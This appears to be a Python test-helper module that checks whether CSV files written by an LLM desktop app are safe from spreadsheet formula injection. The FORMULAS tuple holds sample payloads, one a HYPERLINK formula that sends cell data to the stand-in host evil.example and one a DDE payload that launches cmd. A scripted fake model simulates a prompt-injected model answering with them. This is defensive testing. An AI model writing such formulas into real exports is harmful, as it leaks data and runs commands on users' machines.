"""What a prompt-injected answer writes to make a spreadsheet run it (OWASP's CSV injection),
and how a CSV file the app wrote reads when it is safe to open in one."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

from tests.cli import run_cli
from tests.scripted_rlm import Responder, asked, repl
from tests.scripted_server import Reply, ScriptedServer

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
)
"""Answers a spreadsheet takes as formulas (a cell starting with =, +, -, @, tab or CR)."""
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def injected(answers: Mapping[str, str]) -> Responder:
    """A scripted model whose RLM root answers each question of `answers` with its formula on its
    first turn, as a prompt injection in a document can make a model do."""

    def respond(request: dict[str, Any]) -> str | Reply:
        seen = asked(request)
        if seen.kind == "rlm" and seen.turn == 0 and seen.prompt in answers:
            return repl(f"FINAL({answers[seen.prompt]!r})")
        return Reply(status=400, content="the test script has no reply for this request")

    return respond


def run_injected(
    server: ScriptedServer, answers: Mapping[str, str], home: Path, out: Path, *args: str
) -> dict[str, Any]:
    """`rlm-desktop *args` (a batch or an evaluation) writing into `out`, against `server`
    answering as `injected(answers)`; what it printed with `--json`, once it exited 0."""
    server.respond_with(injected(answers))
    done = run_cli(
        *args, "--api-base", server.base_url, "--out", str(out), "--json", home=home, timeout=300
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    result: dict[str, Any] = json.loads(done.stdout)
    return result


def read_csv(path: Path) -> list[dict[str, str]]:
    """A CSV file the app wrote, read as a spreadsheet's import reads it."""
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def formula_cells(rows: Iterable[dict[str, str]]) -> list[str]:
    """The cells of `rows` a spreadsheet would run: those starting a formula that are not plain
    numbers (a cost or a count the app wrote, which a spreadsheet reads as a number)."""
    return [
        cell
        for row in rows
        for cell in [*row.values(), *row]
        if cell.startswith(FORMULA_START) and not _number(cell)
    ]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
